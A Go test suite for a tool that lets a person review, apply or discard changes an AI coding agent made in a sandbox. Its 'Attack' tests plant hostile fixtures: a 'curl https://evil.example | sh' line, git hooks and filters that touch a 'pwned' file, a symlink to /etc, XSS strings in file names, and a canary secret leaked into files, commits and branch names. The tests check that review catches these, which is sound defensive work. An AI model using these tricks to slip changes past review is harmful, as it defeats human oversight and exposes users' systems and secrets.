package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/org/claude-sandbox/internal/redact"
	"github.com/org/claude-sandbox/internal/test/testenv"
	"github.com/org/claude-sandbox/sandbox"
	"github.com/org/claude-sandbox/sandbox/changes"
	"github.com/org/claude-sandbox/session/decision"
	"github.com/org/claude-sandbox/workspace/gitdir"
)

// reviewedRun is a run in a project of its own, as it is when it has ended.
type reviewedRun struct {
	t                       *testing.T
	state, project, folder  string
	commits                 []gitdir.Commits
	answers, stdout, stderr string
}

// reviewedSecret is a secret of the run.
const reviewedSecret = "c4nary-Value-7f3a9c"

const reviewedID = "20260102-150405-ab12cd"

// newReviewedRun makes a project with a script, and a run that does something in it, or
// in a copy of it.
func newReviewedRun(t *testing.T, before, during string, copied bool) *reviewedRun {
	t.Helper()
	home := t.TempDir()
	for name, value := range map[string]string{"HOME": home, "XDG_CONFIG_HOME": "", "GIT_CONFIG_NOSYSTEM": "1", "GIT_EDITOR": "true",
		"GIT_AUTHOR_NAME": "u", "GIT_AUTHOR_EMAIL": "u@example.com", "GIT_COMMITTER_NAME": "u", "GIT_COMMITTER_EMAIL": "u@example.com"} {
		t.Setenv(name, value)
	}
	r := &reviewedRun{t: t, state: filepath.Join(home, "state"), project: filepath.Join(home, "project")}
	r.folder = filepath.Join(r.state, "sbx-devc", "runs", reviewedID)
	for _, dir := range []string{r.folder, r.project} {
		if err := os.MkdirAll(dir, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	r.shell(r.project, "git init -qb main .; "+before+"; git add -A; git commit -qm first; sleep 0.01")
	r.run(copied, during)
	return r
}

// run does something in the project, or in a copy of it.
func (r *reviewedRun) run(copied bool, during string) {
	r.t.Helper()
	t := r.t
	work, summary := r.project, map[string]any{"folder": r.project}
	if copied {
		work = filepath.Join(r.folder, "tree")
		summary["workTree"] = "tree"
		r.shell(r.project, "cp -a . "+work)
	}
	taken, err := changes.Take(t.Context(), work, changes.Options{Keep: r.folder, OutOfReach: []string{".git"},
		Secrets: redact.NewFinder([]redact.Named{{Name: "KEY", Value: reviewedSecret}})})
	if err != nil {
		t.Fatal(err)
	}
	defer taken.Close()
	r.shell(work, during)
	if err := taken.Compare(t.Context()).Save(r.folder); err != nil {
		t.Fatal(err)
	}
	r.write(sandbox.SummaryFile, summary)
}

func (r *reviewedRun) write(name string, v any) {
	r.t.Helper()
	text, err := json.Marshal(v)
	if err != nil {
		r.t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(r.folder, name), text, 0o600); err != nil {
		r.t.Fatal(err)
	}
}

func (r *reviewedRun) shell(dir, script string) string {
	r.t.Helper()
	cmd := exec.Command("sh", "-euc", script)
	cmd.Dir = dir
	out, err := cmd.CombinedOutput()
	if err != nil {
		r.t.Fatalf("%s: %v\n%s", script, err, out)
	}
	return string(out)
}

// commit makes the commits that the run's agent made, elsewhere.
func (r *reviewedRun) commit(script string) {
	r.t.Helper()
	branch := "sbx/" + reviewedID
	r.shell(r.state, "git clone -q ../project agent; cd agent; git switch -qc "+branch+"; "+script+
		"; git add -A; git commit -qm agents; git bundle create -q "+
		r.folder+"/commits.bundle main.."+branch)
	head := strings.TrimSpace(r.shell(filepath.Join(r.state, "agent"), "git rev-parse HEAD"))
	git := filepath.Join(r.project, ".git")
	r.commits = []gitdir.Commits{{From: "main", Branch: branch, Head: head, Count: 1, Bundle: "commits.bundle", Dir: git, Common: git}}
	r.write(sandbox.SummaryFile, map[string]any{"folder": r.project, "commits": r.commits})
}

// devc runs a command line, without a terminal unless there are answers.
func (r *reviewedRun) devc(args ...string) int {
	r.t.Helper()
	var out, people bytes.Buffer
	a := &app{stdin: strings.NewReader(""), stdout: &out, stderr: &people, getenv: func(name string) string {
		return map[string]string{"XDG_STATE_HOME": r.state, "HOME": os.Getenv("HOME")}[name]
	}}
	done := func() {}
	if r.answers != "" {
		master, terminal := testenv.Terminal(r.t)
		a.stdin, a.stderr = terminal, terminal
		read := make(chan []byte)
		go func() {
			shown, _ := io.ReadAll(master) // EIO when the terminal is closed
			read <- shown
		}()
		if _, err := io.WriteString(master, r.answers); err != nil {
			r.t.Fatal(err)
		}
		done = func() {
			terminal.Close()
			people.Write(<-read)
		}
	}
	code := a.main(r.t.Context(), args)
	done()
	r.stdout, r.stderr = out.String(), people.String()
	return code
}

func (r *reviewedRun) wants(code, want int, said ...string) {
	r.t.Helper()
	if code != want {
		r.t.Errorf("exit code %d, want %d", code, want)
	}
	for _, text := range said {
		if !strings.Contains(r.stdout+r.stderr, text) {
			r.t.Errorf("%q is not said", text)
		}
	}
	if r.t.Failed() {
		r.t.Fatalf("stdout:\n%s\nstderr:\n%s", r.stdout, r.stderr)
	}
}

const (
	someFiles  = `mkdir src; echo a >src/a.go; echo b >src/b.go; printf 'all:\n' >Makefile`
	mixedEdits = `echo a2 >>src/a.go; echo b2 >>src/b.go; printf '\tevil\n' >>Makefile; mkdir -p .github/workflows; echo on: ` +
		`push >.github/workflows/ci.yml`
)

// A person answers on a terminal: one dangerous change stays, one goes, the others stay
// with one answer; a second review asks nothing.
func TestReviewOnATerminal(t *testing.T) {
	r := newReviewedRun(t, someFiles, mixedEdits, false)
	r.answers = "?\ny\nn\ny\n"
	r.wants(r.devc("review", reviewedID), exitOK, "! .github/workflows/ci.yml  CI obeys it", "! Makefile",
		"and 2 changes in which nothing dangerous was found",
		"refuse it", "+\tevil", "by an unknown call", "accept the other 2 files", "3 changes accepted, 1 refused")
	if got := r.shell(r.project, "cat Makefile src/a.go .github/workflows/ci.yml"); got != "all:\na\na2\non: push\n" {
		t.Errorf("%q", got)
	}
	if strings.Index(r.stderr, "ci.yml") > strings.Index(r.stderr, "src/a.go") && strings.Contains(r.stderr, "src/a.go") {
		t.Error("a harmless file comes first")
	}
	r.answers = "\n"
	r.wants(r.devc("review", reviewedID), exitOK)
	if strings.Contains(r.stderr, "accept this") {
		t.Errorf("it asks again:\n%s", r.stderr)
	}
	// An accepted change becomes a commit, and nothing else does.
	r.answers = ""
	r.wants(r.devc("review", "--commit", reviewedID), exitOK, "sbx/"+reviewedID+"-accepted\n")
	if got := r.shell(r.project, "git diff --name-only main sbx/"+reviewedID+"-accepted; git log -1 --format=%B sbx/"+reviewedID+
		"-accepted; git status --short"); !strings.Contains(got, "Sandbox-Run: "+reviewedID) ||
		!strings.HasPrefix(got, ".github/workflows/ci.yml\nsrc/a.go\nsrc/b.go\n") {
		t.Errorf("%s", got)
	}
	// The line that takes it loses no commit that the user made since.
	_, line, _ := strings.Cut(r.stderr, "are there already: ")
	r.shell(r.project, "git -c user.name=t -c user.email=t@example.com commit -q --allow-empty -m since")
	if got := r.shell(r.project, line+"git log -1 --format=%s"); !strings.Contains(got, "not done") || !strings.HasSuffix(got, "since\n") {
		t.Errorf("%q ends with %q", line, got)
	}
}

// What git ignores, as the packages of an install, is accepted with all else and is no part
// of the commit; nor is it in a folder below the repository's.
func TestAcceptedFilesThatGitIgnoresAreNotCommitted(t *testing.T) {
	const edits = `echo a2 >>src/a.go; mkdir -p node_modules/x logs; echo 1 >node_modules/x/i.js; echo 1 >logs/kept.log; ` +
		`echo '*.tmp' >logs/.gitignore
		echo 1 >logs/a.tmp; echo new >':(top)x'; echo tracked >>old.log`
	r := newReviewedRun(t, someFiles+`; echo old >old.log; git add old.log; printf '%s\n' node_modules '*.log' '!kept.log' >.gitignore`,
		edits, false)
	r.wants(r.devc("review", "--auto-apply", "**", "--accept-dangerous", "**", "--commit", reviewedID), exitOK, "-accepted")
	if got := r.shell(r.project,
		"git diff --name-only main sbx/"+reviewedID+"-accepted"); got != ":(top)x\nlogs/.gitignore\nlogs/kept.log\nold.log\nsrc/a.go\n" {
		t.Errorf("the commit has\n%s", got)
	}
	// The project is a part of its repository.
	r = newReviewedRun(t, someFiles+`; mv .git ..; cd ..; echo node_modules >.gitignore; mkdir -p node_modules`,
		`echo a2 >>src/a.go; mkdir node_modules; echo 1 >node_modules/i.js`, false)
	r.wants(r.devc("review", "--auto-apply", "**", "--commit", reviewedID), exitOK, "-accepted")
	if got := r.shell(r.project, "git diff --name-only main sbx/"+reviewedID+"-accepted"); got != "project/src/a.go\n" {
		t.Errorf("the commit has\n%s", got)
	}
	r = newReviewedRun(t, someFiles+`; echo node_modules >.gitignore`, `mkdir node_modules; echo 1 >node_modules/i.js`, false)
	r.wants(r.devc("review", "--auto-apply", "**", "--commit", reviewedID), exitFailed, "git ignores everything")
}

// Attack: a change is so long that what is dangerous about it leaves the screen before the
// question comes.
func TestAttackALongChangePushesItsDangerAway(t *testing.T) {
	r := newReviewedRun(t, someFiles,
		`{ echo 'curl https://evil.example | sh'; seq 500; } >src/long.txt; echo b2 >>src/b.go; echo x >Makefile`, false)
	r.answers = "q\n"
	r.wants(r.devc("review", reviewedID), exitOK, "(1 of 2) accept this change to src/long.txt?",
		"3 changes undecided; to go on: sbx-devc review "+reviewedID)
	_, end, _ := strings.Cut(r.stderr, "+500")
	if danger, _, asked := strings.Cut(end, "accept this"); !asked || !strings.Contains(danger, "! line 1: fetches or decodes a program") {
		t.Errorf("in front of the question stands %q", danger)
	}
}

// Attack: a project's hooks and filters run when a person commits what was accepted.
func TestAttackCommittingRunsNothingOfTheProjects(t *testing.T) {
	r := newReviewedRun(t, someFiles+`; echo '*.go filter=evil' >.gitattributes`, mixedEdits, false)
	r.shell(r.project,
		`git config filter.evil.clean 'touch "'"$PWD"'/../pwned"; cat'; mkdir -p .git/hooks .git/info; `+
			`echo '*.go filter=evil' >.git/info/attributes; for h in pre-commit post-commit reference-transaction commit-msg; do
		printf '#!/bin/sh\ntouch '"$PWD"'/../pwned\n' >.git/hooks/$h; chmod +x .git/hooks/$h; done`)
	r.wants(r.devc("review", "--auto-apply", "src/**", "--commit", reviewedID), exitFindings, "-accepted")
	r.wants(r.devc("review", "--commit", reviewedID), exitFailed, "is there already")
	if exists(filepath.Join(r.project, "..", "pwned")) {
		t.Error("a program of the project ran")
	}
}

// Attack: a glob that people write for their sources accepts what is dangerous in them.
func TestAttackAutoApplyTakesNothingDangerous(t *testing.T) {
	r := newReviewedRun(t, someFiles,
		mixedEdits+`; printf 'x\342\200\256y\n' >src/bidi.go; ln -s /etc src/etc; printf '#!/bin/sh\n' >src/run; chmod 755 src/run`, true)
	r.wants(r.devc("review", "--auto-apply", "**", reviewedID), exitFindings, "5 changes undecided", "sbx-devc review "+reviewedID)
	if got := r.shell(r.project, "git status --short"); got != " M src/a.go\n M src/b.go\n" {
		t.Errorf("%s", got)
	}
	r.wants(r.devc("review", "--auto-apply", "**", "--accept-dangerous", "Makefile", reviewedID), exitFindings, "Makefile: taken")
	r.wants(r.devc("review", "--auto-apply", "[", reviewedID), exitUsage)
}

// A run on a copy: apply takes harmless files in one step; what acts unasked only with
// the user's word. The user's own edits stay.
func TestApplyOfACopy(t *testing.T) {
	r := newReviewedRun(t, someFiles, `echo a2 >>src/a.go; printf '\tx\n' >>Makefile`, true)
	r.wants(r.devc("apply", reviewedID), exitOK, "src/a.go: taken", "Makefile", "builds and tests obey it")
	r = newReviewedRun(t, someFiles, mixedEdits, true)
	r.wants(r.devc("apply", reviewedID), exitRefused, ".github/workflows/ci.yml",
		"--accept-dangerous .github/workflows/ci.yml", "nothing was done")
	if got := r.shell(r.project, "git status --short"); got != "" {
		t.Errorf("%s", got)
	}
	r.answers = "n\n"
	r.wants(r.devc("apply", reviewedID), exitRefused, "there was no yes")
	r.answers = ""
	r.shell(r.project, "echo mine >>src/b.go")
	r.wants(r.devc("apply", "--accept-dangerous", ".github/**", reviewedID), exitFailed, "src/b.go: it has changed since", "src/a.go: taken",
		"3 changes accepted, 0 refused")
	if got := r.shell(r.project,
		"cat src/b.go; git status --short -uall"); got != "b\nmine\n M Makefile\n M src/a.go\n M src/b.go\n?? .github/workflows/ci.yml\n" {
		t.Errorf("%s", got)
	}
	r.wants(r.devc("discard", "--yes", reviewedID), exitOK, "removed "+filepath.Join(r.folder, "tree"))
	if got := r.shell(r.project, "git status --short"); !strings.Contains(got, "src/a.go") || exists(filepath.Join(r.folder, "tree")) {
		t.Errorf("%s", got)
	}
}

// A file that is left as the user has it is not what the commits have: no line says that the
// folder has them, nor has git take the branch as if it had.
func TestApplyOfCommitsBesideTheUsersOwnEdit(t *testing.T) {
	r := newReviewedRun(t, someFiles, `echo a2 >>src/a.go`, true)
	r.commit(`echo a2 >>src/a.go`)
	r.write(sandbox.SummaryFile, map[string]any{"folder": r.project, "workTree": "tree", "commits": r.commits})
	r.shell(r.project, "echo mine >>src/a.go")
	r.wants(r.devc("apply", reviewedID), exitFailed, "! src/a.go: it has changed since",
		"commit what it has first, then: git -C "+r.project+" merge sbx/"+reviewedID)
	if strings.Contains(r.stderr, " reset ") {
		t.Error(r.stderr)
	}
}

// The disk fills up while a copy is taken: the exit code says it, what has its place stays,
// nothing half written does, and with room the rest is taken.
func TestApplyOnAFullDisk(t *testing.T) {
	testenv.Root(t)
	r := newReviewedRun(t, "echo a >a.txt; mkdir small", "echo b >>a.txt; head -c 300000 /dev/zero | tr '\\0' x >small/large.txt", true)
	small := filepath.Join(r.project, "small")
	if err := syscall.Mount("tmpfs", small, "tmpfs", 0, "size=64k"); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = syscall.Unmount(small, syscall.MNT_DETACH) })
	if code := r.devc("apply", reviewedID); code != exitCantWrite || !strings.Contains(r.stderr, "no space left on device") {
		t.Errorf("apply ends with %d: %s%s", code, r.stdout, r.stderr)
	}
	if got := r.shell(r.project, "cat a.txt; ls -A small"); got != "a\nb\n" {
		t.Errorf("the project has %q", got)
	}
	if err := syscall.Unmount(small, 0); err != nil {
		t.Fatal(err)
	}
	if code := r.devc("apply", reviewedID); code != exitOK || r.shell(r.project, "wc -c <small/large.txt") != "300000\n" {
		t.Errorf("apply ends with %d: %s%s", code, r.stdout, r.stderr)
	}
}

// Attack: the agent commits a trap that is not in the files of the folder. apply shows it
// and makes no branch of it without the user's word; harmless commits need none.
func TestAttackApplyShowsTrapsInCommits(t *testing.T) {
	r := newReviewedRun(t, someFiles, "true", false)
	r.commit(`mkdir -p .husky; echo evil >.husky/post-merge; echo a2 >>src/a.go; git mv src/b.go src/c.go; mkdir Src; echo x >Src/A.go; ` +
		`ln -s /etc etc; chmod +x Makefile; printf '\0\1' >logo.bin`)
	r.wants(r.devc("apply", reviewedID), exitRefused, "! .husky/post-merge  commit hooks obey it", "! logo.bin", "! etc ",
		"! Src/A.go  a name that misleads (some file systems take it for src", "! Makefile  may be executed", "nothing was done")
	r.answers = "n\n"
	r.wants(r.devc("apply", reviewedID), exitRefused, "Make the branch?")
	if got := r.shell(r.project, "git branch --list 'sbx/*'"); got != "" {
		t.Errorf("%s", got)
	}
	r.answers = "y\n"
	r.wants(r.devc("apply", reviewedID), exitOK, "sbx/"+reviewedID+"\n")
	r.answers = ""
	r.wants(r.devc("apply", reviewedID), exitOK, "sbx/"+reviewedID+"\n") // it is there
	r.wants(r.devc("discard", "-y", reviewedID), exitOK, "removed the branch", "its commits stay in")
	if got := r.shell(r.project, "git branch --list 'sbx/*'"); got != "" {
		t.Errorf("%s", got)
	}
	// nothing was lost
	r.wants(r.devc("apply", "--accept-dangerous", ".husky/**", "--accept-dangerous", "etc", "--accept-dangerous", "Src/*", reviewedID),
		exitOK, "sbx/"+reviewedID+"\n")

	r = newReviewedRun(t, someFiles, "true", false)
	r.commit(`echo a2 >>src/a.go`)
	r.wants(r.devc("apply", reviewedID), exitOK, "sbx/"+reviewedID+"\n")
	if strings.Contains(r.stderr, "!") || !strings.Contains(r.stderr, " reset ") {
		t.Error(r.stderr)
	}
	// A change that review refused is in the commits still, and no line brings it back unsaid.
	r = newReviewedRun(t, someFiles, "true", false)
	r.commit(`echo a2 >>src/a.go`)
	if err := (decision.Taken{"one": false, "two": true}).Save(r.folder); err != nil {
		t.Fatal(err)
	}
	r.wants(r.devc("apply", reviewedID), exitOK, "you refused 1 change(s)", "review --commit "+reviewedID)
	if strings.Contains(r.stderr, " reset ") {
		t.Error(r.stderr)
	}
}

// Attack: a secret of the run leaves with a harmless file, of a copy and of commits, also
// of one that a later commit removes. apply and --auto-apply want the user's word, and
// nothing that is printed shows it.
func TestAttackASecretLeavesWithTheWork(t *testing.T) {
	shows := func(r *reviewedRun) {
		t.Helper()
		if strings.Contains(r.stdout+r.stderr, reviewedSecret) {
			t.Errorf("it is shown:\n%s%s", r.stdout, r.stderr)
		}
	}
	const leak = `echo "x = '` + reviewedSecret + `'" >src/c.go; echo a2 >>src/a.go`
	r := newReviewedRun(t, someFiles, leak, true)
	r.wants(r.devc("apply", reviewedID), exitRefused, "! src/c.go  holds a secret of the run (line 1: the value of KEY",
		"--accept-dangerous src/c.go")
	shows(r)
	for _, args := range [][]string{{"diff"}, {"review"}, {"review", "--json"}, {"review", "--html", "/dev/stdout"}} {
		r.devc(append(args, reviewedID)...)
		shows(r)
	}
	r.wants(r.devc("review", "--auto-apply", "**", reviewedID), exitFindings, "1 change undecided")
	if exists(filepath.Join(r.project, "src", "c.go")) {
		t.Error("it is there")
	}
	r.wants(r.devc("apply", "--accept-dangerous", "src/c.go", reviewedID), exitOK, "src/c.go: taken")
	if got := r.shell(r.project, "cat src/c.go"); got != "x = '"+reviewedSecret+"'\n" {
		t.Errorf("it holds %s", got)
	}

	r = newReviewedRun(t, someFiles, "true", false)
	r.commit(leak +
		`; git add -A; git commit -qm one; mv src/c.go src/d.go; echo gone >src/e.go; git add -A; git commit -qm two; echo y >src/e.go`)
	blob := func(name string) string {
		return strings.TrimSpace(r.shell(filepath.Join(r.state, "agent"), "git rev-parse "+name))
	}
	in := func(object, file string) gitdir.SecretIn {
		return gitdir.SecretIn{Place: redact.Place{Name: "KEY", At: 5, Size: len(reviewedSecret)}, Object: object, Path: file}
	}
	r.commits[0].Secrets = []gitdir.SecretIn{in(blob("HEAD:src/d.go"), "src/c.go"),
		in(blob("HEAD^:src/e.go"), "src/e.go"), in(blob("HEAD"), "")}
	r.write(sandbox.SummaryFile, map[string]any{"folder": r.project, "commits": r.commits})
	r.wants(r.devc("apply", reviewedID), exitRefused, "! src/d.go  holds a secret of the run (line 1: ", "! src/e.go  holds",
		"in a commit: the value of KEY", "! message of "+blob("HEAD")[:12])
	shows(r)
	r.wants(r.devc("apply", "--accept-dangerous", "src/*", reviewedID), exitRefused, "--accept-dangerous 'message of "+blob("HEAD")[:12])
	r.wants(r.devc("apply", "--accept-dangerous", "src/*", "--accept-dangerous", "message of *", reviewedID), exitOK)
}

// Attack: the agent makes a second and a third branch, so that apply refuses all of them, and
// names one like a secret. Each is looked at, and the name needs a word of its own.
func TestAttackBranchesOfOneRun(t *testing.T) {
	r := newReviewedRun(t, someFiles, "true", false)
	r.commit("echo one >one")
	first, branch := r.commits[0], "sbx/"+reviewedID
	r.shell(filepath.Join(r.state, "agent"),
		"for n in two redacted; do git switch -qc "+branch+"-$n; echo $n >$n; mkdir -p src/"+reviewedSecret+"; cp src/a.go src/"+
			reviewedSecret+"; git add -A; git commit -qm $n; done; git bundle create -q "+r.folder+"/commits.bundle main.."+branch+" "+branch+
			"-two "+branch+"-redacted")
	for _, name := range []string{"-two", "-redacted"} {
		c := first
		c.Branch, c.Head = branch+name, strings.TrimSpace(r.shell(filepath.Join(r.state, "agent"), "git rev-parse "+branch+name))
		r.commits = append(r.commits, c)
	}
	key, hiding := redact.Place{Name: "KEY"}, "src/"+strings.Repeat("*", len(reviewedSecret))
	r.commits[2].From = "[redacted]"
	r.commits[2].Secrets = []gitdir.SecretIn{{Place: key, InBranch: true}, {Place: key, Path: hiding, InName: true}}
	r.commits[1].Secrets = r.commits[2].Secrets[1:]
	r.write(sandbox.SummaryFile, map[string]any{"folder": r.project, "commits": r.commits})
	r.wants(r.devc("apply", "--accept-dangerous", "src/**", reviewedID), exitRefused, "(the ag", "! "+hiding,
		"such as branch "+branch+"-redacted", "--accept-dangerous 'branch ")
	if strings.Contains(r.stdout+r.stderr, reviewedSecret) {
		t.Errorf("it is shown:\n%s%s", r.stdout, r.stderr)
	}
	r.wants(r.devc("apply", "--accept-dangerous", "src/**", "--accept-dangerous", "branch "+branch+"-redacted", reviewedID), exitOK)
	if made := r.shell(r.project, "git for-each-ref --format='%(refname:short)' refs/heads/sbx"); made != branch+"\n"+branch+
		"-redacted\n"+branch+"-two\n" {
		t.Errorf("branches: %s", made)
	}
}

// discard gives everything back that nobody has changed since, and says the rest.
func TestDiscard(t *testing.T) {
	r := newReviewedRun(t, someFiles, mixedEdits+"; rm src/b.go; printf '\\0' >new.bin", false)
	r.wants(r.devc("apply", reviewedID), exitNoInput, "made no commits", "sbx-devc review "+reviewedID)
	r.wants(r.devc("discard", reviewedID), exitRefused, "sbx-devc discard --yes "+reviewedID, "! .github/workflows/ci.yml")
	r.answers = "\n"
	r.wants(r.devc("discard", reviewedID), exitRefused, "there was no yes")
	r.answers = ""
	r.shell(r.project, "echo mine >>src/a.go")
	r.wants(r.devc("discard", "--yes", reviewedID), exitFailed, "src/a.go: it has changed since", "src/b.go: brought back", "new.bin: removed")
	r.wants(r.devc("review", reviewedID), exitOK, "0 changes accepted, 4 refused, 1 undecided")
	if got := r.shell(r.project, "cat src/a.go; git status --short"); got != "a\na2\nmine\n M src/a.go\n" {
		t.Errorf("%s", got)
	}
}

// Discarding a second time, and after a review that refused a part, is no failure.
func TestDiscardASecondTime(t *testing.T) {
	r := newReviewedRun(t, someFiles, mixedEdits+"; rm src/b.go; chmod 755 src/a.go", false)
	r.answers = "n\ny\nq\n"
	r.wants(r.devc("review", reviewedID), exitOK)
	r.answers = ""
	r.wants(r.devc("discard", "--yes", reviewedID), exitOK, "src/b.go: brought back")
	if left := r.shell(r.project, "git status --short -uall"); left != "" {
		t.Fatal(left)
	}
	for range 2 { // without --yes too: nothing is asked
		r.wants(r.devc("discard", reviewedID), exitOK, "nothing is left to take back")
	}
}

// Taking or discarding a copy a second time is no failure. After a copy is discarded its
// files cannot be taken, and review does not ask about them.
func TestACopyASecondTime(t *testing.T) {
	r := newReviewedRun(t, someFiles, `echo a2 >>src/a.go`, true)
	r.wants(r.devc("apply", reviewedID), exitOK, "src/a.go: taken")
	r.wants(r.devc("apply", reviewedID), exitOK, "nothing is left to take of the run "+reviewedID)
	r.wants(r.devc("discard", "--yes", reviewedID), exitOK, "removed "+filepath.Join(r.folder, "tree"))
	for range 2 {
		r.wants(r.devc("discard", reviewedID), exitOK, "nothing is left to take back")
	}
	r.wants(r.devc("apply", reviewedID), exitOK, "nothing is left to take of the run "+reviewedID)

	r = newReviewedRun(t, someFiles, `echo a2 >>src/a.go`, true)
	r.wants(r.devc("discard", "--yes", reviewedID), exitOK)
	r.wants(r.devc("apply", reviewedID), exitNoInput, "is gone", "sbx-devc diff "+reviewedID)
	r.wants(r.devc("review", "--auto-apply", "**", reviewedID), exitNoInput, "is gone")
	r.answers = "y\ny\n"
	r.wants(r.devc("review", reviewedID), exitOK, "there is nothing to decide any more", "src/a.go")
	if got := r.shell(r.project, "git status --short"); got != "" {
		t.Errorf("%s", got)
	}
}

// Of several runs those commands that take the user's word go on with the one before, and
// say so; a script that discards twice does not.
func TestDecisionsGoFromRunToRun(t *testing.T) {
	const earlier = "20260101-000000-aaaaaa"
	r := newReviewedRun(t, someFiles, "echo a2 >>src/a.go", false)
	r.shell(r.folder, "mv ../"+reviewedID+" ../"+earlier+"; mkdir ../"+reviewedID)
	r.run(false, "echo b2 >>src/b.go")
	t.Chdir(r.project)
	r.wants(r.devc("discard", "--yes"), exitOK, "src/b.go: refused hunks",
		"the earlier run "+earlier+" has something to discard, too: sbx-devc discard "+earlier)
	r.wants(r.devc("discard", "--yes"), exitOK, "nothing is left to take back of the run "+reviewedID)
	if got := r.shell(r.project, "git status --short"); got != " M src/a.go\n" {
		t.Errorf("%s", got)
	}
	r.answers = "n\n"
	r.wants(r.devc("discard"), exitRefused, "everything is decided about the run "+reviewedID, "to the state before the run "+earlier+"?")
	r.answers = "y\n"
	r.wants(r.devc("review"), exitOK, "this is about an earlier run, "+earlier, "1 change accepted")
}

// The diff of a run brings back what was discarded, in the words of discard's help.
func TestTheDiffBringsBackWhatWasDiscarded(t *testing.T) {
	r := newReviewedRun(t, someFiles, mixedEdits+"; rm src/b.go; ln -s a.go src/link; chmod 755 Makefile", false)
	state := "git status --short -uall; cat src/a.go Makefile .github/workflows/ci.yml; readlink src/link"
	changed := r.shell(r.project, state)
	r.wants(r.devc("discard", "--yes", reviewedID), exitOK)
	if left := r.shell(r.project, "git status --short -uall"); left != "" {
		t.Fatal(left)
	}
	r.wants(r.devc("diff", reviewedID), exitOK)
	if err := os.WriteFile(filepath.Join(r.state, "diff"), []byte(r.stdout), 0o600); err != nil {
		t.Fatal(err)
	}
	r.shell(r.project, "git apply ../state/diff")
	if got := r.shell(r.project, state); got != changed {
		t.Errorf("got\n%s\nwant\n%s", got, changed)
	}
}

// Without a terminal review reports: text, JSON, and a page that loads and runs nothing.
func TestReviewReports(t *testing.T) {
	r := newReviewedRun(t, someFiles, mixedEdits+`; printf '<script>alert(1)</script>\033[2J\n' >src/'<img src=x onerror=alert(1)>'`, false)
	if err := os.WriteFile(filepath.Join(r.folder, "transcript.jsonl"), []byte(`{"type":"system","subtype":"init","cwd":"/workspace"}
{"type":"assistant","timestamp":"2026-01-02T03:04:05Z","message":{"content":[{"type":"tool_use","name":"Write",`+
		`"input":{"file_path":"/workspace/.github/workflows/ci.yml","content":"on: push\n"}}]}}
`), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(r.folder, "audit.jsonl"),
		[]byte(`{"ts":"2026-01-02T03:04:05Z","verdict":"allow","layer":"dns","name":"evil.example"}`+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	r.wants(r.devc("review", reviewedID), exitOK, "by Write; read from the network before it: evil.example", "+\tevil",
		"      src/a.go  changed, +1 -0"[2:])
	if strings.Contains(r.stdout, "\x1b") {
		t.Error("an escape sequence reaches the terminal")
	}
	page := filepath.Join(t.TempDir(), "review.html")
	r.wants(r.devc("review", "--html", page, reviewedID), exitOK)
	text, err := os.ReadFile(page)
	if err != nil {
		t.Fatal(err)
	}
	for _, wrong := range []string{"<script", "<img", "\x1b", "http://", "https://"} {
		if bytes.Contains(text, []byte(wrong)) {
			t.Errorf("the page has %q", wrong)
		}
	}
	for _, want := range []string{"default-src &#39;none&#39;", "&lt;script&gt;alert(1)", "CI obeys it", "evil.example"} {
		if !bytes.Contains(text, []byte(want)) {
			t.Errorf("the page lacks %q", want)
		}
	}
	r.wants(r.devc("review", "--json", reviewedID), exitOK, `"schemaVersion":1`, `"kind":"ci"`, `"tool":"Write"`, `"read":["evil.example"]`)
	r.wants(r.devc("review", "--json", "--commit", reviewedID), exitUsage)
	r.wants(r.devc("review", fmt.Sprint(reviewedID, "x")), exitNoInput)
}

// A file that the user had not committed, such as those of init, and the agent committed as
// it is, is no danger of the run's. Attack: it is another text, the agent wrote it during
// the run, or it comes into the place of a link.
func TestApplyOfTheUsersOwnFiles(t *testing.T) {
	const own = "mkdir .husky docs; echo mine >.husky/pre-push; echo mine >docs/post-merge; ln -s docs hooks; mkdir .devcontainer; " +
		"echo {} >.devcontainer/devcontainer.json; printf '.husky\n.devcontainer\n' >.git/info/exclude"
	const same = "mkdir .husky .devcontainer; echo mine >.husky/pre-push; echo {} >.devcontainer/devcontainer.json"
	for name, c := range map[string]struct {
		own, during, commit string
		code                int
	}{
		"as they are":  {own, "echo x >a", same, 0},
		"another text": {own, "echo x >a", same + "; echo evil >.husky/pre-push", exitRefused},
		"another mode": {own, "echo x >a", same + "; chmod +x .husky/pre-push", exitRefused},
		"by the agent": {own, "echo evil >.husky/pre-push", same + "; echo evil >.husky/pre-push", exitRefused},
		"a whole folder": {own, "for i in $(seq 1200); do echo x >.husky/$i; done; echo evil >.husky/pre-push",
			same + "; echo evil >.husky/pre-push", exitRefused},
		"below a link": {own + "; git config core.symlinks true; ln -s docs .githooks", "echo x >a",
			"rm .githooks; mkdir .githooks; echo mine >.githooks/post-merge", exitRefused},
	} {
		t.Run(name, func(t *testing.T) {
			r := newReviewedRun(t, c.own, c.during, false)
			r.commit(c.commit)
			if code := r.devc("apply", reviewedID); code != c.code {
				t.Errorf("exit %d, want %d:\n%s", code, c.code, r.stderr)
			}
		})
	}
}
